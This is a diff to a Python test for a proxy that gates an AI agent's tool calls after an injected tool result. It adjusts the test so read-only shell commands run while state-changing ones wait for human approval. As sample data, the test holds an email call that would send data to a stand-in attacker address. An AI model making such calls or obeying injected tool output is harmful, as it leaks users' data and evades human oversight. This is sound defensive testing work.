@@ -191,10 +191,12 @@ def test_injected_result_marks_the_session_and_gates_later_calls(proxy: Proxy) -
     exfil = proxy.call("send_email", {"to": "attacker@evil.example", "subject": "k", "body": "x"})
     assert exfil["isError"] is True
     assert text_of(exfil).startswith("redline blocked this call: ")
-    shell = proxy.call("run_shell", {"command": "ls"})
+    # a read-only command still runs; one that changes state waits for a person
+    assert proxy.call("run_shell", {"command": "ls"})["isError"] is False
+    shell = proxy.call("run_shell", {"command": "make deploy"})
     assert shell["isError"] is True
     assert "human's approval" in text_of(shell)  # ask: blocked until a human approves
-    assert [c["tool"] for c in proxy.received()] == ["fetch_page"]
+    assert [c["tool"] for c in proxy.received()] == ["fetch_page", "run_shell"]
 
 
 def test_injected_result_is_replaced_when_the_policy_blocks_it(tmp_path: Path) -> None:
